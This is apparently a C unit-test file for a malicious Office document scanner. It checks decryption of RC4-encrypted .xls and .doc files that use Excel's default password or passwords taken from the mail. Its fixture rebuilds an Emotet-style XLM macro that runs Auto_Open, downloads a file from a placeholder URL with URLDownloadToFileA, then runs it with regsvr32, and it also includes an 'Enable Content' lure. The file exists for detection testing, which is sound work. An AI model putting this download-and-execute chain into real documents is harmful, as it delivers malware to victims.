/* RC4 and RC4 CryptoAPI encrypted .xls (FILEPASS) and .doc: decryption with Excel's default
 * password and with the mail's candidates, the XLM and lure text found behind it, and wrong or
 * damaged input. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "core/safe.h"
#include "office/office_int.h"
#include "office_fixtures.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define URL "http://198.51.100.31/p/"

/* Auto_Open -> CALL urlmon URLDownloadToFileA, EXEC regsvr32 (the 2022 Emotet .xls) */
static void emotet_workbook(eg_buf *wb, size_t extra_rows)
{
    eg_buf f[64];
    size_t n = 3 + extra_rows;
    assert_true(n <= 64);
    for (size_t i = 0; i < n; i++)
        eg_buf_init(&f[i], 0);
    eg_fx_ptg_str(&f[0], "urlmon", false);
    eg_fx_ptg_str(&f[0], "URLDownloadToFileA", false);
    eg_fx_ptg_str(&f[0], "JJCCBB", false);
    eg_fx_ptg_int(&f[0], 0);
    eg_fx_ptg_str(&f[0], URL, false);
    eg_fx_ptg_str(&f[0], "..\\oxnv1.ooccxx", false);
    eg_fx_ptg_int(&f[0], 0);
    eg_fx_ptg_int(&f[0], 0);
    eg_fx_ptg_funcvar(&f[0], 150, 8); /* CALL */
    eg_fx_ptg_str(&f[1], "C:\\Windows\\System32\\regsvr32.exe ..\\oxnv1.ooccxx", false);
    eg_fx_ptg_funcvar(&f[1], 110, 1); /* EXEC */
    for (size_t i = 0; i < extra_rows; i++) {
        char s[200];
        snprintf(s, sizeof s, "filler row %zu ------------------------------------------------------------", i);
        eg_fx_ptg_str(&f[2 + i], s, false);
        eg_fx_ptg_funcvar(&f[2 + i], 100, 1); /* ALERT-like single-argument call */
    }
    eg_fx_ptg_funcvar(&f[n - 1], 54, 0); /* HALT */
    eg_fx_sheet sh[2] = {{"Sheet1", 0, 0, NULL, 0}, {"Macro1", 1, 2, f, n}};
    eg_buf_init(wb, 0);
    assert_int_equal(eg_fx_biff8_workbook(sh, 2, true, wb), EG_OK);
    for (size_t i = 0; i < n; i++)
        eg_buf_free(&f[i]);
}

static uint8_t *encrypted_xls(const char *password, unsigned key_bits, size_t *len)
{
    eg_buf wb, enc;
    emotet_workbook(&wb, 0);
    eg_buf_init(&enc, 0);
    assert_int_equal(eg_fx_xls_rc4_encrypt(wb.data, wb.len, password, key_bits, &enc, NULL), EG_OK);
    /* the macro text must not be readable in the encrypted stream */
    assert_null(memmem(enc.data, enc.len, "regsvr32", 8));
    eg_fx_stream st[1] = {{"Workbook", enc.data, enc.len}};
    uint8_t *xls;
    assert_int_equal(eg_fx_cfb(st, 1, &xls, len), EG_OK);
    eg_buf_free(&wb);
    eg_buf_free(&enc);
    return xls;
}

static eg_report *scan(const uint8_t *d, size_t len, const char *const *pw, size_t npw)
{
    eg_report *r = eg_fx_scan("invoice.xls", d, len, pw, npw);
    assert_non_null(r);
    if (getenv("EG_DUMP"))
        eg_fx_dump(r);
    return r;
}

static void assert_emotet_found(eg_report *r)
{
    assert_true(eg_report_has_rule(r, "XLM.AUTO_OPEN"));
    assert_true(eg_report_has_rule(r, "XLM.AUTO_OPEN_EXECUTION"));
    assert_true(eg_report_has_rule(r, "XLM.DOWNLOAD"));
    assert_false(eg_report_has_rule(r, "OFFICE.ENCRYPTED"));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    const char *x = eg_fx_captured(EG_T_XLM);
    assert_non_null(strstr(x, "Macro1!A2: =EXEC(\"C:\\Windows\\System32\\regsvr32.exe ..\\oxnv1.ooccxx\")\n"));
    assert_non_null(strstr(x, "' name \"Auto_Open\" builtin = Macro1!$A$1\n"));
    /* the decrypted stream is marked as such, with the password that opened it */
    bool dec = false;
    for (size_t i = 0; i < eg_report_object_count(r); i++) {
        const eg_object *o = eg_report_object(r, i);
        if (o->type == EG_T_BIFF8 && (o->flags & EG_OBJ_DECRYPTED) && o->password)
            dec = true;
    }
    assert_true(dec);
}

/* Excel's default password: the workbook opens without a prompt, so it is what malspam uses */
static void test_xls_velvet_cryptoapi(void **state)
{
    (void)state;
    size_t len;
    uint8_t *xls = encrypted_xls("VelvetSweatshop", 128, &len);
    eg_report *r = scan(xls, len, NULL, 0);
    assert_true(eg_report_has_rule(r, "OFFICE.DEFAULT_PASSWORD"));
    assert_emotet_found(r);
    eg_report_free(r);
    free(xls);
}

static void test_xls_velvet_rc4(void **state)
{
    (void)state;
    size_t len;
    uint8_t *xls = encrypted_xls("VelvetSweatshop", 0, &len);
    eg_report *r = scan(xls, len, NULL, 0);
    assert_true(eg_report_has_rule(r, "OFFICE.DEFAULT_PASSWORD"));
    assert_emotet_found(r);
    eg_report_free(r);
    free(xls);
}

/* a password written in the mail body opens it (40-bit CryptoAPI, Excel 2003's default key) */
static void test_xls_mail_password(void **state)
{
    (void)state;
    size_t len;
    uint8_t *xls = encrypted_xls("Pa55-2022", 40, &len);
    const char *pw[] = {"wrong1", "Pa55-2022"};
    eg_report *r = scan(xls, len, pw, 2);
    assert_true(eg_report_has_rule(r, "OFFICE.DECRYPTED"));
    assert_false(eg_report_has_rule(r, "OFFICE.DEFAULT_PASSWORD"));
    assert_emotet_found(r);
    eg_report_free(r);
    free(xls);
}

/* no candidate opens it: reported encrypted, nothing of the macros is seen */
static void test_xls_wrong_password(void **state)
{
    (void)state;
    size_t len;
    uint8_t *xls = encrypted_xls("unknown!", 128, &len);
    const char *pw[] = {"wrong1", "Pa55-2022"};
    eg_report *r = scan(xls, len, pw, 2);
    assert_true(eg_report_has_rule(r, "OFFICE.ENCRYPTED"));
    assert_false(eg_report_has_rule(r, "OFFICE.DECRYPTED"));
    assert_false(eg_report_has_rule(r, "XLM.AUTO_OPEN"));
    assert_false(eg_fx_has_type(r, EG_T_XLM));
    eg_report_free(r);
    free(xls);
}

/* an RC4-encrypted .doc: the lure text behind the encryption is found once it opens */
static void doc_case(const char *password, unsigned bits, const char *const *pw, size_t npw, const char *rule,
                     bool opened)
{
    uint8_t *doc;
    size_t len;
    assert_int_equal(eg_fx_doc_rc4("Please click Enable Content to view this invoice", password, bits, &doc, &len), EG_OK);
    assert_null(memmem(doc, len, "E\0n\0a\0b\0l\0e", 11));
    eg_report *r = eg_fx_scan("invoice.doc", doc, len, pw, npw);
    assert_non_null(r);
    if (getenv("EG_DUMP"))
        eg_fx_dump(r);
    assert_true(eg_report_has_rule(r, rule));
    assert_int_equal(eg_report_has_rule(r, "OFFICE.LURE_ENABLE_CONTENT"), opened);
    assert_int_equal(eg_report_has_rule(r, "OFFICE.ENCRYPTED"), !opened);
    eg_report_free(r);
    free(doc);
}

static void test_doc_rc4(void **state)
{
    (void)state;
    const char *pw[] = {"wrong1", "Pa55-2022"};
    doc_case("VelvetSweatshop", 128, NULL, 0, "OFFICE.DEFAULT_PASSWORD", true);
    doc_case("Pa55-2022", 0, pw, 2, "OFFICE.DECRYPTED", true);
    doc_case("Pa55-2022", 40, pw, 2, "OFFICE.DECRYPTED", true);
    doc_case("other", 128, pw, 2, "OFFICE.ENCRYPTED", false);
}

/* Byte-exact round trip over several 1024-byte blocks for every variant; only the FILEPASS
 * record type differs (blanked so readers go on past it). */
static void test_decrypt_exact(void **state)
{
    (void)state;
    eg_buf wb;
    emotet_workbook(&wb, 60);
    assert_true(wb.len > 4 * 1024);
    static const unsigned bits[] = {0, 40, 56, 128};
    for (size_t v = 0; v < sizeof bits / sizeof *bits; v++) {
        eg_buf enc, plain;
        eg_buf_init(&enc, 0);
        eg_buf_init(&plain, 0);
        assert_int_equal(eg_fx_xls_rc4_encrypt(wb.data, wb.len, "s3cret", bits[v], &enc, &plain), EG_OK);
        assert_int_equal(enc.len, plain.len);
        assert_memory_not_equal(enc.data, plain.data, enc.len);
        uint8_t *out = NULL;
        assert_int_equal(eg_office_xls_decrypt_with(enc.data, enc.len, "s3cret", &out), EG_OK);
        size_t fp = 4u + eg_rd16le(wb.data + 2);
        assert_int_equal(eg_rd16le(plain.data + fp), 0x002F);
        assert_int_equal(eg_rd16le(out + fp), 0x0000);
        assert_memory_equal(out, plain.data, fp);
        assert_memory_equal(out + fp + 2, plain.data + fp + 2, plain.len - fp - 2);
        free(out);
        assert_int_equal(eg_office_xls_decrypt_with(enc.data, enc.len, "S3cret", &out), EG_EPASSWORD);
        assert_null(out);
        /* a cut stream still decrypts what is there, without reading past it */
        size_t cut = enc.len - 700;
        assert_int_equal(eg_office_xls_decrypt_with(enc.data, cut, "s3cret", &out), EG_OK);
        assert_memory_equal(out + fp + 2, plain.data + fp + 2, cut - fp - 2);
        free(out);
        eg_buf_free(&enc);
        eg_buf_free(&plain);
    }
    eg_buf_free(&wb);
}

/* header checks: XOR obfuscation, unknown versions and short headers are refused */
static void test_headers(void **state)
{
    (void)state;
    uint8_t xor_rec[] = {0x09, 0x08, 0x04, 0x00, 0x00, 0x06, 0x05, 0x00, /* BOF */
                         0x2F, 0x00, 0x06, 0x00, 0x00, 0x00, 0x12, 0x34, 0x56, 0x78};
    size_t off;
    const uint8_t *h;
    size_t hl;
    assert_int_equal(eg_office_xls_filepass(xor_rec, sizeof xor_rec, &off, &h, &hl), EG_EUNSUPPORTED);
    assert_int_equal(eg_office_xls_filepass(xor_rec, 8, &off, &h, &hl), EG_ENOTFOUND);
    eg_office_rc4_hdr hd;
    uint8_t v11[4 + 47] = {1, 0, 1, 0};
    assert_int_equal(eg_office_rc4_parse(v11, sizeof v11, &hd), EG_EFORMAT); /* one byte short */
    uint8_t v33[60] = {3, 0, 3, 0};
    assert_int_equal(eg_office_rc4_parse(v33, sizeof v33, &hd), EG_EUNSUPPORTED);
    /* a CryptoAPI header naming AES is not RC4 */
    uint8_t aes[200] = {4, 0, 2, 0, 4, 0, 0, 0, 32, 0, 0, 0};
    aes[12 + 8] = 0x0E, aes[12 + 9] = 0x66;
    assert_int_equal(eg_office_rc4_parse(aes, sizeof aes, &hd), EG_EUNSUPPORTED);
}

/* EG_OFFICE_SEEDS=dir writes the fuzz seeds (dir/fuzz_office_rc4/) */
static void write_seeds(const char *dir)
{
    eg_buf wb;
    emotet_workbook(&wb, 8);
    static const unsigned bits[] = {0, 40, 128};
    for (size_t v = 0; v < 3; v++) {
        eg_buf enc;
        eg_buf_init(&enc, 0);
        if (eg_fx_xls_rc4_encrypt(wb.data, wb.len, "VelvetSweatshop", bits[v], &enc, NULL) == EG_OK) {
            char path[1024];
            snprintf(path, sizeof path, "%s/fuzz_office_rc4/xls_rc4_%u", dir, bits[v]);
            FILE *f = fopen(path, "wb");
            if (f) {
                fwrite(enc.data, 1, enc.len, f);
                fclose(f);
            }
        }
        eg_buf_free(&enc);
    }
    eg_buf_free(&wb);
}

int main(void)
{
    if (getenv("EG_OFFICE_SEEDS"))
        write_seeds(getenv("EG_OFFICE_SEEDS"));
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_xls_velvet_cryptoapi), cmocka_unit_test(test_xls_velvet_rc4),
        cmocka_unit_test(test_xls_mail_password),    cmocka_unit_test(test_xls_wrong_password),
        cmocka_unit_test(test_decrypt_exact),        cmocka_unit_test(test_headers), cmocka_unit_test(test_doc_rc4),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
